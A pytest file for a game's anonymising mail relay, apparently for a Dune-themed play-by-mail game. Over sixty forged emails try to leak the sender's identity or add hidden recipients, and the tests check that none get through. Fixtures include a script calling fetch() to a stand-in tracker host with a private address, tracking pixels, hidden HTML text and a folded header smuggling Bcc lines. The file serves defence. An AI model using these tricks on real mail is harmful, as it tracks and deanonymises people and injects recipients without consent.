"""Attempts to smuggle an address, time zone, mail program, time or hidden recipient through the relay.

Each trick is a mail that a program might write or a player might forge. The letter to its reader, raw and decoded, must
contain nothing that identifies the writer, and nobody else may receive anything.
"""

from __future__ import annotations

import base64
import quopri
import re
from collections.abc import Callable, Mapping

import pytest

from tests.moderator.table import World, address_of
from tests.press.test_modes_by_mail import game_with

ZONE, CLIENT, HOST, ADDRESS_IP = "+0930", "Krakenmail", "laptop.darwin.example", "203.0.113.77"
PRIVATE, REAL, PHONE = "duncan.private@home.example", "Duncan Idaho", "+61 8 5550 1234"
MINUTE, DAY = "21:47", "11 Nov 2024"
MARKS = (
    ZONE, CLIENT, HOST, ADDRESS_IP, PRIVATE, "duncan", "idaho", "5550", MINUTE, DAY, address_of("guild"),
    "guild@players", "harkonnen@players", "emperor@players", "tracker.example", "SECRETPART", "darwin",
)  # fmt: skip
"""Facts about the Guild's player that nobody must learn; their mail program includes them wherever it can."""

WORDS = "The spice must flow."
LINE = f"press to fremen: {WORDS}"
DATE = f"Mon, {DAY} {MINUTE}:13 {ZONE}"


def head(world: World, **fields: str) -> str:
    """Return a Guild mail's header, with these fields added or replaced."""
    usual = {
        "From": f"{REAL} <{address_of('guild')}>",
        "To": f"Mentat <mentat+{world.token('guild')}@arrakis.example>",
        "Subject": "Re: orders",
        "Message-ID": f"<1234.5678@{HOST}>",
        "Date": DATE,
        "MIME-Version": "1.0",
        "Content-Type": 'text/plain; charset="utf-8"',
    }
    usual |= {name.replace("_", "-"): value for name, value in fields.items()}
    return "".join(f"{name}: {value}\r\n" for name, value in usual.items() if value)


def plain(body: str = LINE, **fields: str) -> Callable[[World], bytes]:
    def make(world: World) -> bytes:
        mail = f"{head(world, **fields)}\r\n{body}".replace("TOKEN", world.token("guild"))
        return (re.sub("\r?\n", "\r\n", mail) + "\r\n").encode()

    return make


def html(page: str, **fields: str) -> Callable[[World], bytes]:
    return plain(page, **{"Content_Type": 'text/html; charset="utf-8"', **fields})


def parts(*more: str, kind: str = "mixed", first: str = LINE) -> Callable[[World], bytes]:
    """Return the maker of a multipart mail that begins with the words."""
    text = f'Content-Type: text/plain; charset="utf-8"\n\n{first}\n'
    body = "".join(f"--SECRETPART\n{part}\n" for part in (text, *more)) + "--SECRETPART--\n"
    return plain(body, Content_Type=f'multipart/{kind}; boundary="SECRETPART"')


def coded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


VCARD = f"BEGIN:VCARD\nVERSION:3.0\nFN:{REAL}\nEMAIL:{PRIVATE}\nTEL:{PHONE}\nTZ:{ZONE}\nEND:VCARD"
ATTRIBUTION = f"On Mon, {DAY} at {MINUTE} {ZONE}, {REAL} <{PRIVATE}> wrote:"
BLOCK = f"From: {REAL} <{PRIVATE}>\nSent: Monday, {DAY} {MINUTE}\nTo: harkonnen@players.example\nSubject: our plan"
BASE64 = "Content-Transfer-Encoding: base64"
SEVERAL = "press to fremen:\n{above}The spice must flow.\n{below}end press"

TRICKS: Mapping[str, Callable[[World], bytes]] = {
# --- header fields
    "copy to another": plain(Cc="harkonnen@players.example"),
    "blind copy": plain(Bcc="harkonnen@players.example"),
    "answers elsewhere": plain(Reply_To=f"{REAL} <{PRIVATE}>"),
    "another sender field": plain(Sender=PRIVATE),
    "resent": plain(Resent_From=PRIVATE, Resent_To="harkonnen@players.example", Resent_Date=DATE),
    "several recipients": plain(To="Mentat <mentat+TOKEN@arrakis.example>, Baron <harkonnen@players.example>"),
    "name of the writer": plain(From=f'"{REAL}, {PHONE}" <guild@players.example>'),
    "program": plain(User_Agent=f"{CLIENT}/1.0", X_Mailer=CLIENT),
    "way it came": plain(Received=f"from {HOST} ([{ADDRESS_IP}]) by mx.arrakis.example; {DATE}"),
    "address of the machine": plain(X_Originating_IP=f"[{ADDRESS_IP}]", X_Sender_Host=HOST),
    "zone of the date": plain(Date=f"Tue, 12 Nov 2024 06:47:00 {ZONE} (ACST)"),
    "message id": plain(Message_ID=f"<{CLIENT}.{MINUTE.replace(':', '')}.{PRIVATE}>"),
    "thread": plain(References=f"<a@{HOST}> <b@{HOST}>", In_Reply_To=f"<b@{HOST}>"),
    "thread of another program": plain(Thread_Index=coded(REAL + DATE), Thread_Topic=REAL),
    "read receipt": plain(Disposition_Notification_To=PRIVATE),
    "old read receipt": plain(Return_Receipt_To=PRIVATE, X_Confirm_Reading_To=PRIVATE),
    "organisation": plain(Organization=f"House of {REAL}", Comments=PHONE, Keywords=REAL),
    "keys": plain(Autocrypt=f"addr={PRIVATE}; keydata=AAAA", OpenPGP=f"url=https://{HOST}/key"),
    "face": plain(X_Face=REAL, Face=coded(REAL), X_Image_URL=f"https://tracker.example/{PRIVATE}"),
    "signature of the domain": plain(DKIM_Signature=f"v=1; d=home.example; i={PRIVATE}; t=1731323820; b=AAAA"),
    "list": plain(List_Unsubscribe=f"<mailto:{PRIVATE}>", List_Post=f"<mailto:{PRIVATE}>"),
    "language": plain(Content_Language="en-AU", Accept_Language="en-AU", X_Timezone=ZONE),
    "subject": plain(Subject=f"Re: {REAL} writes at {MINUTE} {ZONE}"),
    "encoded subject": plain(Subject=f"=?utf-8?b?{coded(REAL + ' ' + PRIVATE)}?="),
    "comment in a field": plain(MIME_Version=f"1.0 ({CLIENT} on {HOST})"),
    "name of the part": plain(Content_Type=f'text/plain; charset="utf-8"; name="{REAL}.txt"'),
    "a field that is folded": plain(X_Note=f"one\r\n Bcc: {PRIVATE}\r\n Reply-To: {PRIVATE}"),
    "description": plain(Content_Description=REAL, Content_ID=f"<part@{HOST}>"),
    "priority": plain(X_Priority="1", X_MSMail_Priority=f"High ({CLIENT})"),
    "history of a forward": plain(X_Forwarded_For=f"{PRIVATE} mentat@arrakis.example", X_Forwarded_To=PRIVATE),
    # --- below, above and between the words
    "signature": plain(f"{LINE}\n-- \n{REAL}\n{PHONE}\n{PRIVATE}"),
    "signature without its mark": plain(f"{LINE}\n\n{REAL}\n{PHONE}\n{PRIVATE}"),
    "signature with stripped mark": plain(f"{LINE}\n--\n{REAL}, Darwin ({ZONE})\n{PRIVATE}"),
    "line of the phone": plain(f"{LINE}\n\nSent from my {CLIENT}phone"),
    "line of the program": plain(f"{LINE}\n\nGet {CLIENT} for Android<https://tracker.example>"),
    "quote": plain(f"{LINE}\n\n{ATTRIBUTION}\n> my plan: {PRIVATE}\n> {PHONE}"),
    "quote above": plain(f"{ATTRIBUTION}\n> my plan: {PRIVATE}\n\n{LINE}"),
    "block of a header": plain(f"{LINE}\n\n-----Original Message-----\n{BLOCK}\n\nMy plan."),
    "block of a header without a row": plain(f"{LINE}\n\n{BLOCK}\n\nMy plan."),
    "forward": plain(f"{LINE}\n\n---------- Forwarded message ---------\n{BLOCK}\n\nMy plan."),
    "disclaimer": plain(f"{LINE}\n\nThis e-mail of {REAL} is confidential. If you are not the intended recipient…"),
    "vcard in the text": plain(f"{LINE}\n\n{VCARD}"),
    "quote within several lines": plain(SEVERAL.format(above="", below=f"\n{ATTRIBUTION}\n> {PRIVATE}\n\n")),
    "quote at the head of several lines": plain(SEVERAL.format(above=f"> {PRIVATE} {PHONE}\n", below="")),
    "signature below several lines": plain(f"{SEVERAL.format(above='', below='')}\n-- \n{REAL}\n{PRIVATE}"),
    "talk below": plain(f"{LINE}\nCheers, {REAL} ({PHONE})"),
    "reply token of the writer": plain(f"press to fremen: {WORDS} mentat+TOKEN@arrakis.example"),
    "tag of the writer": plain(f"press to fremen: {WORDS} [#TOKEN]"),
    "signs that are not seen": plain(f"press to fremen: \u202e{WORDS}\u200b\u2066\ufeff"),
    # --- parts
    "vcard": parts(f"Content-Type: text/vcard; name={REAL.split()[0]}.vcf\n\n{VCARD}"),
    "calendar": parts(f"Content-Type: text/calendar\n\nBEGIN:VCALENDAR\nORGANIZER:{PRIVATE}\nEND:VCALENDAR"),
    "picture": parts(f'Content-Type: image/png; name="{REAL}.png"\n{BASE64}\n\n{coded(PRIVATE)}'),
    "file": parts(
        f'Content-Type: text/plain\nContent-Disposition: attachment; filename="{REAL}.txt"\n\n{PRIVATE}\n{PHONE}'
    ),
    "whole mail inside": parts(f"Content-Type: message/rfc822\n\nFrom: {PRIVATE}\nDate: {DATE}\n\n{WORDS} {PHONE}"),
    "second text": parts(f'Content-Type: text/plain; charset="utf-8"\n\n-- \n{REAL} {PRIVATE}'),
    "detached signature": parts(
        f"Content-Type: application/pgp-signature\n\n-----BEGIN PGP SIGNATURE-----\nComment: {CLIENT} {PRIVATE}\n\niQAA"
        "\n-----END PGP SIGNATURE-----",
        kind="signed",
    ),
    "certificate": parts(
        f"Content-Type: application/pkcs7-signature; name=smime.p7s\n{BASE64}\n\n{coded(PRIVATE)}",
        kind="signed",
    ),
    "winmail": parts(
        f"Content-Type: application/ms-tnef; name=winmail.dat\n{BASE64}\n\n{coded(REAL)}"
    ),
    "other words in html": parts(
        f"Content-Type: text/html\n\n<p>{LINE}</p><img src=https://tracker.example/{PRIVATE}>", kind="alternative"
    ),
    "receipt part": parts(f"Content-Type: message/disposition-notification\n\nFinal-Recipient: rfc822;{PRIVATE}"),
    # --- HTML
    "picture that tells who reads": html(f'<p>{LINE}</p><img src="https://tracker.example/?{PRIVATE}" width=1>'),
    "hidden words": html(f'<p>{LINE}<span style="display:none">{PRIVATE}</span></p>'),
    "words in white": html(f'<p>{LINE}</p><p style="color:#fff;font-size:0">{PRIVATE} {PHONE}</p>'),
    "comment": html(f"<p>{LINE}<!-- {CLIENT} {PRIVATE} --></p>"),
    "fields of the page": html(f'<head><meta name=generator content="{CLIENT}"><title>{REAL}</title></head><p>{LINE}'),
    "style that fetches": html(f"<style>p{{background:url(https://tracker.example/{PRIVATE})}}</style><p>{LINE}"),
    "script": html(f"<p>{LINE}<script>fetch('https://tracker.example/{PRIVATE}')</script></p>"),
    "link with another target": html(
        f'<p>press to fremen: <a href="https://tracker.example/{PRIVATE}">The spice must flow.</a></p>'
    ),
    "quote in html": html(f'<p>{LINE}</p><div class="gmail_quote">{ATTRIBUTION}<blockquote>{PHONE}</blockquote></div>'),
    "attributes": html(f'<p title="{REAL}" data-at="{MINUTE}" lang="en-AU">{LINE}</p>'),
    # --- clear-signed
    "clear signature": plain(
        f"-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\n{LINE}\n-----BEGIN PGP SIGNATURE-----\n"
        f"Version: {CLIENT}\nComment: {PRIVATE}\n\niQAA\n-----END PGP SIGNATURE-----"
    ),
}  # fmt: skip


def decoded(raw: bytes) -> str:
    """Return the whole letter in lower case, both raw and decoded."""
    text = raw.decode("utf-8", "replace")
    taken_off = [text, quopri.decodestring(raw).decode("utf-8", "replace")]
    taken_off += [
        base64.b64decode(found + "=" * (-len(found) % 4)).decode("utf-8", "replace")
        for found in re.findall(r"[A-Za-z0-9+/]{16,}={0,2}", re.sub(r"\s+", "", text))[:200]
        if len(found) % 4 != 1
    ]
    return "\n".join(taken_off).casefold()


def test_there_are_sixty_of_them() -> None:
    assert len(TRICKS) >= 60


@pytest.mark.parametrize("mode", ["open", "grey,gunboat"])
@pytest.mark.parametrize("trick", TRICKS)
def test_a_trick_brings_nothing_but_words_through(world: World, trick: str, mode: str) -> None:
    game_with(world, mode)
    own = world.token("guild")
    before, after = world.written(), world.now
    world.moderator.deliver(TRICKS[trick](world), world.now)
    world.now = after
    world.wait(2)
    letters = [letter for letter in world.letters(after=before) if letter.faction != "guild"]
    to_players = [letter for letter in letters if letter.faction]
    refused = mode != "open" and trick == "reply token of the writer"  # the words contain a mail address
    assert {letter.faction for letter in to_players} == (set() if refused else {"fremen"}), world.messages()
    for letter in to_players:
        raw = letter.message.as_bytes()
        found = decoded(raw)
        assert [mark for mark in (*MARKS, own) if mark.casefold() in found] == []
        assert WORDS in " ".join(letter.text.split())
        assert letter.envelope_from.startswith("mentat+b-")
        assert len(list(letter.message.walk())) <= 3  # text and HTML together, nothing attached
        assert letter.message.get_all("Cc", []) == letter.message.get_all("Bcc", []) == []
